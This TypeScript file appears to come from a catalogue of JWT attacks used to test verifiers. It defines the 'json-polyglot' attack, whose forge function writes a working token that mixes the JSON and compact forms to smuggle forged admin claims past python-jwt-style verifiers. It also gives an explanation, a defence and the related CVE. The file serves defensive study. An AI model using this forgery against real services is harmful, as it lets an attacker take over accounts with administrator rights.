import { rfc } from '../../jwt/clause.ts';
import { withClaims } from '../../service/tokens/parts.ts';
import type { Attack } from '../attack.ts';
import { nextBcp } from '../next-bcp.ts';

export const jsonPolyglot: Attack = {
  id: 'json-polyglot',
  name: 'JSON and compact at once',
  group: 'form',
  setting: 'rs256',
  precondition:
    'The verifier takes the JSON form of a JWS too, and reads the claims by splitting at dots.',
  needs: ['a-token'],
  goal: 'u-9 is let in as admin with the honest signature of a reader.',
  forge: ({ honest }) => {
    const [head = '', body = '', tail = ''] = honest.split('.', 3);
    const [, forged = ''] = withClaims(honest, { role: 'admin' }).split('.', 3);
    const json = JSON.stringify({ protected: head, payload: body, signature: tail });
    return Promise.resolve({
      moves: [
        { say: 'Write the honest token in the JSON form. It verifies.', token: json },
        {
          say: 'Put in a member whose name is a compact token with forged claims. A JSON reader passes it over.',
          token: json.replace('{', `{"${head}.${forged}.":"",`),
        },
      ],
    });
  },
  explanation: [
    'A JWS has two written forms: three parts with dots between, and a JSON object with three members. This text is both at once.',
    'One piece of code parses the JSON, ignores a member with a strange name, and finds an honest signature over honest claims. The next one knows only dots, and takes what stands between the first two.',
    'Nothing is forged that was checked. What was checked was not what was used.',
  ],
  defence:
    'Take the compact form only, by its whole grammar. Hand on the claims that the verification returned, and never parse the token again.',
  bcp: [],
  clauses: [rfc(7515, '7.1'), rfc(7519, '3'), nextBcp('2.13')],
  cves: [
    {
      id: 'CVE-2022-39227',
      what: 'python-jwt before 3.3.4: in a mixture of compact and JSON form, the claims that were read were not those that had been verified',
    },
  ],
  sound: {
    pinned: {
      outcome: 'refuse',
      at: 'form',
      because: 'It is no compact token: its first part is not base64url.',
    },
    strict: {
      outcome: 'refuse',
      at: 'form',
      because: 'It is no compact token: its first part is not base64url.',
    },
  },
};
